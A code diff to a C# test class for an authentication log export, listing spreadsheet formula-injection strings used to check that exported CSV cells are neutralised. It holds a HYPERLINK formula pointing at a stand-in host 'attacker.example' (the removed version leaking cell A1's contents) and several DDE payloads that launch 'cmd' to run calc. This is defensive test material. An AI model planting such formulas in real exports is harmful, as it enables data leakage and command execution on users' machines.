@@ -14,7 +14,7 @@ public abstract class AuthenticationLogExportTests(PortalApp app)
     /// <summary>Cells a spreadsheet would read as formulas (OWASP CSV injection), one per dangerous first character.</summary>
     public static readonly string[] FormulaTexts =
     [
-        "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"open\")",
+        "=HYPERLINK(\"http://attacker.example/leak\",\"open\")",
         "+cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+9)*cmd|' /C calc'!A0",
